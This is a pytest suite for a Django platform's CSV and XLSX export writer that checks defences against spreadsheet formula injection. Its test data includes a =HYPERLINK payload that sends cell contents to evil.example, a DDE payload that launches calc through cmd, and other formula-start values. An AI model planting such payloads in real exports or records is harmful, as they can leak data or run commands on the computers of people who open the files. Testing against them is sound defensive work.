"""The one export writer (ops_platform/core/exports.py) and every download built on it.

Hostile values (formulas, DDE, control characters, very long text) go in through the real services and endpoints,
and the files are read back as a spreadsheet would read them: no CSV cell starts like a formula, no XLSX cell is a
formula, and what the person wrote is still there to read.
"""

from __future__ import annotations

import csv
import io
from datetime import date, datetime, timedelta
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
from django.utils import timezone, translation
from openpyxl import load_workbook

from analytics.models import AarrrDaily
from analytics.services.loading import events_load
from desk.models import Digest
from goals.models import Team, TeamMembership
from ops_platform.core import exports
from ops_platform.core.exports import (
    DATE,
    DATETIME,
    HEADER_BOTH,
    HEADER_CODE,
    INT,
    MONEY,
    NUMBER,
    PERCENT,
    Column,
    ExportTable,
    Report,
)
from ops_platform.core.roles import Role
from tests.factories import MerchantFactory, event_row, local_time
from users.models import Coupon, CouponCampaign
from users.services.customers import customers_refresh
from users.services.segments import segment_save

HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "=1+1", "+1+1", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
DAY = date(2026, 3, 10)


def _report(rows, columns=None, **extra) -> Report:
    columns = columns or [Column("value", "Value")]
    return Report(name="t", tables=[ExportTable(title="T", columns=columns, rows=rows)], **extra)


def csv_rows(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff"), "the BOM lets Excel read UTF-8"
    return list(csv.reader(io.StringIO(text[1:])))


def assert_csv_is_inert(text: str) -> list[list[str]]:
    rows = csv_rows(text)
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), (cell, row)
    return rows


def assert_xlsx_is_inert(content: bytes):
    workbook = load_workbook(io.BytesIO(content))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
                    assert cell.data_type == "s" and cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
    return workbook


def xlsx_strings(workbook) -> set[str]:
    return {cell.value for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row
            if isinstance(cell.value, str)}


def body(response) -> str:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return content.decode("utf-8")


# The writer


@pytest.mark.parametrize("value", HOSTILE)
def test_csv_neutralises_every_formula_start(value):
    rows = assert_csv_is_inert(exports.csv_text(_report([{"value": value}])))

    assert rows[1] == ["'" + value]


@pytest.mark.parametrize("value", HOSTILE)
def test_xlsx_writes_formulas_as_quote_prefixed_strings(value):
    workbook = assert_xlsx_is_inert(exports.xlsx_bytes(_report([{"value": value}])))

    cell = workbook.active["A2"]
    # XML reads a carriage return back as a newline; the cell stays quote-prefixed text all the same.
    assert (cell.value, cell.data_type, cell.quotePrefix) == (value.replace("\r", "\n"), "s", True)


def test_harmless_text_is_left_as_it_is():
    text = exports.csv_text(_report([{"value": "wechat"}, {"value": "a=b"}, {"value": " =1"}, {"value": "中文"}]))
    workbook = load_workbook(io.BytesIO(exports.xlsx_bytes(_report([{"value": "wechat"}]))))

    assert csv_rows(text)[1:] == [["wechat"], ["a=b"], [" =1"], ["中文"]]
    assert (workbook.active["A2"].value, workbook.active["A2"].quotePrefix) == ("wechat", False)


def test_numbers_are_typed_and_text_in_a_number_column_is_text():
    columns = [Column("n", "N", INT), Column("m", "M", MONEY), Column("p", "P", PERCENT), Column("x", "X", NUMBER)]
    rows = [{"n": -3, "m": Decimal("-1234.5"), "p": 0.25, "x": 1.5}, {"n": "=1+1", "m": None, "p": "-1", "x": True}]

    text = exports.csv_text(_report(rows, columns))
    workbook = load_workbook(io.BytesIO(exports.xlsx_bytes(_report(
        [{"n": -3, "m": Decimal("-1234.5"), "p": 0.25, "x": 1.5}, {"n": "=1+1", "m": None, "p": "-1", "x": True}],
        columns))))

    assert csv_rows(text)[1:] == [["-3", "-1234.50", "25.00%", "1.5"], ["'=1+1", "", "'-1", "Yes"]]
    sheet = workbook.active
    assert [(c.value, c.data_type) for c in sheet[2]] == [(-3, "n"), (-1234.5, "n"), (0.25, "n"), (1.5, "n")]
    assert [sheet["A2"].number_format, sheet["B2"].number_format, sheet["C2"].number_format] == [
        "#,##0", "#,##0.00", "0.0%"]
    assert [(c.value, c.data_type) for c in sheet[3]] == [("=1+1", "s"), (None, "n"), ("-1", "s"), ("Yes", "s")]


def test_times_are_in_time_zone_and_dates_are_dates():
    moment = datetime(2026, 3, 9, 16, 30, tzinfo=ZoneInfo("UTC"))  # 00:30 on the 10th in Shanghai
    columns = [Column("at", "At", DATETIME), Column("day", "Day", DATE)]

    text = exports.csv_text(_report([{"at": moment, "day": DAY}], columns))
    sheet = load_workbook(io.BytesIO(exports.xlsx_bytes(_report([{"at": moment, "day": DAY}], columns)))).active

    assert csv_rows(text)[1] == ["2026-03-10T00:30:00+08:00", "2026-03-10"]
    assert sheet["A2"].value == datetime(2026, 3, 10, 0, 30)
    assert sheet["A2"].number_format == "yyyy-mm-dd hh:mm:ss"
    assert sheet["B2"].value.date() == DAY


def test_iso_texts_in_date_and_time_columns_are_dates_and_other_texts_stay_text():
    """Selectors hand JSON-ready results ("period": "2026-10-12"): a date column types them all the same."""
    columns = [Column("day", "Day", DATE), Column("at", "At", DATETIME)]
    rows = [{"day": "2026-03-10", "at": "2026-03-09T16:30:00+00:00"},
            {"day": "Average", "at": "2026-03-10 08:15"},
            {"day": "2026-02-30", "at": "=1+1"}]

    text = exports.csv_text(_report(rows, columns))
    sheet = load_workbook(io.BytesIO(exports.xlsx_bytes(_report(rows, columns)))).active

    assert csv_rows(text)[1:] == [["2026-03-10", "2026-03-10T00:30:00+08:00"], ["Average", "2026-03-10T08:15:00"],
                                  ["2026-02-30", "'=1+1"]]
    assert [(sheet["A2"].value, sheet["A2"].is_date, sheet["A2"].number_format)] == [
        (datetime(2026, 3, 10), True, "yyyy-mm-dd")]
    assert (sheet["B2"].value, sheet["B2"].is_date) == (datetime(2026, 3, 10, 0, 30), True)
    assert (sheet["B3"].value, sheet["B3"].is_date) == (datetime(2026, 3, 10, 8, 15), True)
    assert [(cell.value, cell.data_type) for cell in (sheet["A3"], sheet["A4"], sheet["B4"])] == [
        ("Average", "s"), ("2026-02-30", "s"), ("=1+1", "s")]


@pytest.mark.parametrize("language, yes, no", [("en", "Yes", "No"), ("zh-hans", "是", "否"), ("zh-hant", "是", "否")])
def test_booleans_are_yes_and_no_in_the_language_the_file_starts_in(language, yes, no):
    columns = [Column("complete", "Complete", exports.BOOLEAN), Column("text", "Text"), Column("n", "N", NUMBER)]
    rows = [{"complete": True, "text": False, "n": True}, {"complete": False, "text": "true", "n": 2}]

    with translation.override(language):
        lines = exports.csv_lines(_report(rows, columns))  # streamed later, in whatever language is active then
        content = exports.xlsx_bytes(_report(rows, columns))
    text = "".join(lines)
    sheet = load_workbook(io.BytesIO(content)).active

    assert csv_rows(text)[1:] == [[yes, no, yes], [no, "true", "2"]]
    assert [[(cell.value, cell.data_type) for cell in row] for row in sheet.iter_rows(min_row=2)] == [
        [(yes, "s"), (no, "s"), (yes, "s")], [(no, "s"), ("true", "s"), (2, "n")]]


def test_json_values_are_written_as_text_and_neutralised():
    rows = [{"value": {"note": "中文", "x": "=1"}}, {"value": ["=1"]}]

    assert csv_rows(exports.csv_text(_report(rows)))[1:] == [['{"note": "中文", "x": "=1"}'], ['["=1"]']]


def test_xlsx_drops_control_characters_and_cuts_text_a_cell_cannot_hold():
    rows = [{"value": "a\x00b\x07c\x1bd"}, {"value": "x" * 40_000}, {"value": "line\nbreak\ttab"}]

    sheet = load_workbook(io.BytesIO(exports.xlsx_bytes(_report(rows)))).active

    assert sheet["A2"].value == "abcd"
    assert len(sheet["A3"].value) == 32_767 and sheet["A3"].value.endswith("…")
    assert sheet["A4"].value == "line\nbreak\ttab"


def test_xlsx_header_is_formatted_and_frozen():
    sheet = load_workbook(io.BytesIO(exports.xlsx_bytes(_report([{"value": "x"}])))).active

    assert sheet["A1"].value == "Value"
    assert sheet["A1"].font.bold and sheet["A1"].fill.fgColor.rgb.endswith("3B6FD8")
    assert sheet.freeze_panes == "A2"


def test_hostile_sheet_titles_and_table_titles_are_inert():
    report = Report(name="t", tables=[ExportTable(title="=1+1", columns=[Column("v", "V")], rows=[["a"]]),
                                      ExportTable(title="a/b:c*?[x]", columns=[Column("v", "V")], rows=[["b"]]),
                                      ExportTable(title="=1+1", columns=[Column("v", "V")], rows=[["c"]])])

    rows = assert_csv_is_inert(exports.csv_text(report))
    workbook = assert_xlsx_is_inert(exports.xlsx_bytes(report))

    assert [row[0] for row in rows[1:]] == ["'=1+1", "a/b:c*?[x]", "'=1+1"]
    assert workbook.sheetnames == ["=1+1", "a_b_c___x_", "=1+1 (2)"]


def test_a_csv_of_tables_with_different_columns_has_one_header_of_all_of_them():
    """RFM, tiers, life cycle, stickiness and a broken-down funnel hold tables of different columns: each row sits
    under its own columns' headers (not the first table's), the others left empty, so pandas reads the whole file."""
    import pandas as pd

    report = Report(name="t", header=HEADER_BOTH, tables=[
        ExportTable(title="Grid", columns=[Column("r", "R", INT), Column("customers", "Customers", INT)],
                    rows=[[1, 10], [2, 20]]),
        ExportTable(title="Segments", columns=[Column("segment", "Segment"), Column("customers", "Customers", INT)],
                    rows=[{"segment": "champions", "customers": 7}]),
    ])

    rows = csv_rows(exports.csv_text(report))
    assert rows == [["Table", "R (r)", "Segment (segment)", "Customers (customers)"],
                    ["Grid", "1", "", "10"], ["Grid", "2", "", "20"], ["Segments", "", "champions", "7"]]
    frame = pd.read_csv(io.StringIO(exports.csv_text(report).lstrip(exports.BOM)))
    assert frame.groupby("Table")["Customers (customers)"].sum().to_dict() == {"Grid": 30, "Segments": 7}


def test_columns_of_two_tables_share_a_place_only_with_the_same_key_and_label():
    """The desk digest keys every table's columns c0…cN: under different labels they stay apart."""
    report = Report(name="t", tables=[
        ExportTable(title="Goals", columns=[Column("c0", "Goal"), Column("c1", "Progress", INT)], rows=[["G", 5]]),
        ExportTable(title="Tickets", columns=[Column("c0", "Ticket"), Column("c1", "Progress", INT)],
                    rows=[["T", 7]]),
    ])

    assert csv_rows(exports.csv_text(report)) == [["Table", "Goal", "Ticket", "Progress"], ["Goals", "G", "", "5"],
                                                  ["Tickets", "", "T", "7"]]


def test_headers_in_the_readers_language_with_the_code_beside():
    columns = [Column("distinct_id", "Customer"), Column("orders", "Orders", INT)]

    both = csv_rows(exports.csv_text(_report([["a", 1]], columns, header=HEADER_BOTH)))[0]
    codes = csv_rows(exports.csv_text(_report([["a", 1]], columns, header=HEADER_CODE)))[0]

    assert both == ["Customer (distinct_id)", "Orders (orders)"]
    assert [exports.header_code(h) for h in both] == ["distinct_id", "orders"]
    assert codes == ["distinct_id", "orders"]


def test_labels_are_translated_when_the_file_starts_not_while_it_streams():
    from django.utils.translation import gettext_lazy as _

    with translation.override("zh-hans"):
        lines = exports.csv_lines(_report(iter([{"value": "x"}]), [Column("value", _("Customer"))],
                                          header=HEADER_BOTH))
    header = next(lines) + next(lines)

    assert header == "\ufeff用户 (value)\r\n"
    assert list(lines) == ["x\r\n"]  # the rows stream on in another language (they used to raise a KeyError)


def test_csv_streams_rows_as_they_come():
    pulled = []

    def rows():
        for n in range(10):
            pulled.append(n)
            yield {"value": str(n)}

    lines = exports.csv_lines(_report(rows()))
    next(lines), next(lines)  # BOM, header
    next(lines)

    assert pulled == [0]


def test_csv_response_is_streamed_with_a_download_name():
    response = exports.csv_response(_report([{"value": "x"}]))

    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="t.csv"'


# Every export, through its endpoint


@pytest.fixture
def hostile_events(db):
    events_load([
        event_row(name, f"{name}-customer", local_time(DAY, 9 + n), channel=name, note=name)
        for n, name in enumerate(["=HYPERLINK(\"http://x\")", "@SUM(A1)", "-1+1"])
    ])


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_raw_events_download_is_inert(api_client_for, hostile_events, file_format):
    response = api_client_for(Role.ANALYST).get("/api/v1/analytics/exports/download/", {
        "kind": "events", "file_format": file_format, "date_from": "2026-03-10", "date_to": "2026-03-10"})

    assert response.status_code == 200
    if file_format == "csv":
        rows = assert_csv_is_inert(body(response))
        assert [row[1:3] for row in rows[1:]] == [["'=HYPERLINK(\"http://x\")", "'=HYPERLINK(\"http://x\")-customer"],
                                                  ["'@SUM(A1)", "'@SUM(A1)-customer"], ["'-1+1", "'-1+1-customer"]]
    else:
        workbook = assert_xlsx_is_inert(response.content)
        assert {"=HYPERLINK(\"http://x\")", "@SUM(A1)-customer", "-1+1"} <= xlsx_strings(workbook)


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_aarrr_download_is_inert(api_client_for, db, file_format):
    AarrrDaily.objects.create(date=DAY, channel="=1+1", acquisition=1)

    response = api_client_for(Role.PM).get("/api/v1/analytics/exports/download/", {
        "kind": "aarrr", "file_format": file_format, "date_from": "2026-03-10", "date_to": "2026-03-10"})

    if file_format == "csv":
        assert assert_csv_is_inert(body(response))[1][1] == "'=1+1"
    else:
        assert "=1+1" in xlsx_strings(assert_xlsx_is_inert(response.content))


@pytest.mark.usefixtures("celery_eager")
@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_export_job_files_are_inert(api_client_for, hostile_events, settings, tmp_path, file_format,
                                    django_capture_on_commit_callbacks):
    settings.MEDIA_ROOT = tmp_path
    client = api_client_for(Role.ANALYST)
    with django_capture_on_commit_callbacks(execute=True):
        created = client.post("/api/v1/analytics/exports/", {"kind": "events", "file_format": file_format, "params": {
            "date_from": "2026-03-10", "date_to": "2026-03-10"}}, format="json")

    download = client.get(client.get(created.json()["status_url"]).json()["download_url"])
    content = b"".join(download.streaming_content)

    if file_format == "csv":
        assert len(assert_csv_is_inert(content.decode())) == 4
    else:
        assert "@SUM(A1)" in xlsx_strings(assert_xlsx_is_inert(content))


@pytest.fixture
def hostile_customers(db):
    now = timezone.now()
    events_load([
        event_row("visit", "=1+1", now - timedelta(days=3), channel="@evil", utm_source="-2+3"),
        event_row("order_paid", "=1+1", now - timedelta(days=2), order_id="1", amount=5, merchant_id="m"),
        event_row("visit", "+SUM(A1)", now - timedelta(days=3), channel="wechat"),
        event_row("signup", "+SUM(A1)", now - timedelta(days=3), referrer="=1+1"),
    ])
    customers_refresh()


def test_customer_export_is_inert(client_for, hostile_customers):
    rows = assert_csv_is_inert(body(client_for(Role.ANALYST).get("/users/customers/export.csv")))

    assert rows[0][:3] == ["Customer (distinct_id)", "First seen (first_seen_at)",
                           "First-touch channel (first_channel)"]
    by_id = {row[0]: row for row in rows[1:]}
    assert set(by_id) == {"'=1+1", "'+SUM(A1)"}
    assert by_id["'=1+1"][2:4] == ["'@evil", "'-2+3"]
    assert by_id["'+SUM(A1)"][7] == "'=1+1"
    assert by_id["'=1+1"][1].endswith("+08:00")


def test_segment_export_is_inert(client_for, hostile_customers):
    segment = segment_save(name="=1+1", rules={"op": "and", "conditions": [
        {"field": "first_seen_at", "operator": "within_days", "value": 30}]})

    rows = assert_csv_is_inert(body(client_for(Role.USER_OPS).get(f"/users/segments/{segment.pk}/export.csv")))

    assert sorted(row[0] for row in rows[1:]) == ["'+SUM(A1)", "'=1+1"]


def test_coupon_code_export_is_inert(client_for, hostile_customers):
    now = timezone.now()
    campaign = CouponCampaign.objects.create(name="=1+1", kind=CouponCampaign.Kind.NEW_USER, face_value=Decimal("5"),
                                             budget=Decimal("100"), valid_from=now, valid_to=now + timedelta(days=9))
    customer = campaign.__class__._meta.apps.get_model("users", "Customer").objects.get(distinct_id="=1+1")
    Coupon.objects.create(campaign=campaign, code="-CODE1", customer=customer, seq=1, issued_at=now)

    rows = assert_csv_is_inert(body(client_for(Role.USER_OPS).get(f"/users/coupons/{campaign.pk}/codes.csv")))

    assert rows[0] == ["Code (code)", "Customer (customer)", "Issued (issued_at)"]
    assert rows[1][:2] == ["'-CODE1", "'=1+1"]


@pytest.mark.parametrize("url", ["/merchants/export/", "/merchants/export/?format=xlsx", "/api/v1/merchants/export/"])
def test_merchant_exports_are_inert(client_for, db, url):
    MerchantFactory(code="M1", name="=HYPERLINK(\"http://x\")", contact_person="@admin", tags=["-1", "x"])

    response = client_for(Role.ANALYST).get(url)

    assert response.status_code == 200
    if "xlsx" in url:
        assert "=HYPERLINK(\"http://x\")" in xlsx_strings(assert_xlsx_is_inert(response.content))
    else:
        assert assert_csv_is_inert(body(response))[1][1] == "'=HYPERLINK(\"http://x\")"


def test_digest_workbook_is_inert(client_for, make_staff):
    admin = make_staff(Role.ADMIN)
    team = Team.objects.create(name="=1+1", kind="merchant_ops")
    TeamMembership.objects.create(team=team, user=admin, is_lead=True)
    digest = Digest.objects.create(team=team, week=date(2026, 11, 16), content={
        "week_start": "2026-11-16", "week_end": "2026-11-22",
        "goals": [{"id": 1, "title": "=HYPERLINK(\"http://x\")", "level": "team", "metric": "merchants_signed",
                   "period_start": "2026-11-01", "period_end": "2026-11-30", "target": 20, "value": 9,
                   "progress": 0.45, "expected": 10, "pace": "behind", "url": "/goals/1/"}],
        "merchants": {"up": 0, "down": 1, "moves": [{"code": "@M1", "name": "-1+1", "from_tier": "core",
                                                      "to_tier": "at_risk"}]},
    })

    response = client_for(Role.ADMIN).get(f"/desk/digests/{digest.pk}/digest.xlsx")

    assert response.status_code == 200, response.content[:500]
    strings = xlsx_strings(assert_xlsx_is_inert(response.content))
    assert {"=HYPERLINK(\"http://x\")", "@M1", "-1+1"} <= strings


# The other reports' files (ops_platform/core/report_files.py): channel quality, RFM, life cycle, tiers, tickets


@pytest.fixture
def hostile_reports(hostile_customers, make_staff):
    from merchants.models import Tier
    from tests.factories import TicketFactory

    MerchantFactory(code="@M1", name="=HYPERLINK(\"http://x\")", tier=Tier.POTENTIAL, health_score=99)
    TicketFactory(title="=cmd|' /C calc'!A0", labels=["-1+1"], requester=make_staff(Role.PM, username="+pm"))


REPORT_FILES = ["/users/channels/export/", "/users/lifecycle/export/", "/users/rfm/export/",
                "/users/customers/export/", "/merchants/tiers/export/", "/products/tickets/export/",
                "/products/tickets/mine/export/"]


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
@pytest.mark.parametrize("url", REPORT_FILES)
def test_every_report_file_is_inert(client_for, hostile_reports, url, file_format):
    response = client_for(Role.ADMIN).get(url, {"file_format": file_format})

    assert response.status_code == 200, url
    if file_format == "csv":
        text = body(response)
        assert_csv_is_inert(text)
    else:
        assert_xlsx_is_inert(response.content)


def test_the_hostile_values_are_still_there_to_read(client_for, hostile_reports):
    client = client_for(Role.ADMIN)

    tickets = body(client.get("/products/tickets/export/"))
    tiers = xlsx_strings(assert_xlsx_is_inert(client.get("/merchants/tiers/export/?file_format=xlsx").content))
    channels = body(client.get("/users/channels/export/"))

    assert "'=cmd|' /C calc'!A0" in tickets and "'+pm" in tickets
    assert {"@M1", "=HYPERLINK(\"http://x\")"} <= tiers
    assert "'@evil" in channels


def test_a_ticket_list_file_reads_in_a_fixed_number_of_queries(client_for, db, django_assert_max_num_queries):
    from tests.factories import TicketFactory

    client = client_for(Role.PM)
    for n in range(40):
        TicketFactory(title=f"Ticket {n}")

    with django_assert_max_num_queries(12):  # session, user, count, the tickets, their assignees (one chunk)
        text = body(client.get("/products/tickets/export/"))

    assert len(csv_rows(text)) == 41
